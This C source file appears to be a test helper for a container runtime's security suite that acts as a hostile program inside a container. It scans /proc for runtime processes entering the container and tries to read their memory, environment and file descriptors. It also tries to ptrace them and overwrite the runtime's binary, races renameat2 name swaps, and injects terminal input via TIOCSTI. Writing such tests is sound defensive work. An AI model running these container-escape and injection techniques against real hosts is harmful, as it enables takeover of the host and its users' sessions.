/* What a hostile program in a container does to the runtime. Static, without libraries.
 *
 *   attack catch SECONDS   looks for a process of the runtime that enters the container (by its
 * name, which anybody may read), and tries to take something from it: its program, files, memory,
 * root, itself. Prints `seen N`, and one line for each thing that it got. attack swap A B SECS
 * exchanges two names as fast as it can attack sets            its capability sets, one per line
 *   attack typed           pushes a character into the terminal of the caller (TIOCSTI)
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* By its name, or the one that it has when an image executed it (test_attacks_entering.py). */
static bool is_of_the_runtime(int pid)
{
    static const char *const names[] = { "svc-runtime", "bait", "bait2", "link", "exe" };
    char path[64], name[64] = "";
    (void)snprintf(path, sizeof(path), "/proc/%d/comm", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return false;
    ssize_t n = read(fd, name, sizeof(name) - 1);
    close(fd);
    name[n > 0 ? n - 1 : 0] = '\0';
    for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++)
        if (strcmp(name, names[i]) == 0)
            return true;
    return false;
}

/* Says so only if PID has not become the program of the container meanwhile, whose things are ours.
 */
static bool got(const char *what, int pid)
{
    if (!is_of_the_runtime(pid))
        return false;
    printf("got %s of %d\n", what, pid);
    return true;
}

/* An exe that was opened is kept: it can be written to when nobody executes it any more. */
static void take_exe(int pid, int *exe_fd)
{
    char path[64];
    (void)snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    int fd = open(path, O_RDONLY);
    if (fd >= 0 && got("exe", pid) && *exe_fd < 0)
        *exe_fd = fd;
    else if (fd >= 0)
        close(fd);
}

static void take_files(int pid)
{
    static const char *const names[] = { "environ", "mem", "maps", "auxv", "syscall", "stack" };
    static const char *const links[] = { "root", "cwd",  "fd/0", "fd/3", "fd/4",
                                         "fd/5", "fd/6", "fd/7", "fd/8" };
    char path[64];
    for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++) {
        char byte;
        (void)snprintf(path, sizeof(path), "/proc/%d/%s", pid, names[i]);
        int fd = open(path, O_RDONLY);
        if (fd >= 0 && (strcmp(names[i], "mem") == 0 || read(fd, &byte, 1) > 0))
            got(names[i], pid);
        if (fd >= 0)
            close(fd);
    }
    for (size_t i = 0; i < sizeof(links) / sizeof(*links); i++) {
        struct stat st;
        (void)snprintf(path, sizeof(path), "/proc/%d/%s", pid, links[i]);
        if (stat(path, &st) == 0)
            got(links[i], pid);
    }
}

static void take_it(int pid)
{
    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
        got("the process itself", pid);
        (void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
    }
}

/* Once the program of the runtime is not executed by anybody, ETXTBSY ends. */
static void overwrite(int exe_fd)
{
    char path[64];
    (void)snprintf(path, sizeof(path), "/proc/self/fd/%d", exe_fd);
    for (double end = now() + 2; now() < end;) {
        int fd = open(path, O_WRONLY);
        if (fd >= 0) {
            if (write(fd, "#!pwned\n", 8) == 8)
                printf("got the program of the runtime overwritten\n");
            close(fd);
            return;
        }
        if (errno != ETXTBSY)
            return;
    }
}

static int lurk(double seconds, bool traces)
{
    unsigned seen = 0;
    int exe_fd = -1, last = 0;
    printf("ready\n");
    for (double end = now() + seconds; now() < end;) {
        DIR *dir = opendir("/proc");
        struct dirent *d;
        while (dir && (d = readdir(dir))) {
            int pid = atoi(d->d_name);
            if (pid <= 0 || pid == getpid() || !is_of_the_runtime(pid))
                continue;
            seen += pid != last;
            last = pid;
            take_exe(pid, &exe_fd);
            take_files(pid);
            if (traces)
                take_it(pid);
        }
        closedir(dir);
    }
    printf("enough\n");
    if (exe_fd >= 0)
        overwrite(exe_fd);
    printf("seen %u\n", seen);
    return 0;
}

static int swap(const char *a, const char *b, double seconds)
{
    for (double end = now() + seconds; now() < end;)
        (void)renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
    return 0;
}

static int sets(void)
{
    char line[256];
    FILE *status = fopen("/proc/self/status", "r");
    while (status && fgets(line, sizeof(line), status))
        if (strncmp(line, "Cap", 3) == 0)
            fputs(line, stdout);
    return 0;
}

static int typed(void)
{
    int result = 1;
    const char *const names[] = { "/dev/tty", "/proc/self/fd/0", "/proc/self/fd/1",
                                  "/proc/self/fd/2" };
    for (int fd = 0; fd < 10; fd++)
        if (ioctl(fd, TIOCSTI, "x") == 0)
            result = 0;
    for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++) {
        int fd = open(names[i], O_RDWR);
        if (fd >= 0 && ioctl(fd, TIOCSTI, "x") == 0)
            result = 0;
    }
    puts(result ? "refused" : "typed");
    return result;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc == 3 && (strcmp(argv[1], "catch") == 0 || strcmp(argv[1], "wait") == 0))
        return lurk(atof(argv[2]), argv[1][0] == 'c');
    if (argc == 5 && strcmp(argv[1], "swap") == 0)
        return swap(argv[2], argv[3], atof(argv[4]));
    if (argc == 2 && strcmp(argv[1], "sets") == 0)
        return sets();
    if (argc == 2 && strcmp(argv[1], "typed") == 0)
        return typed();
    return 2;
}
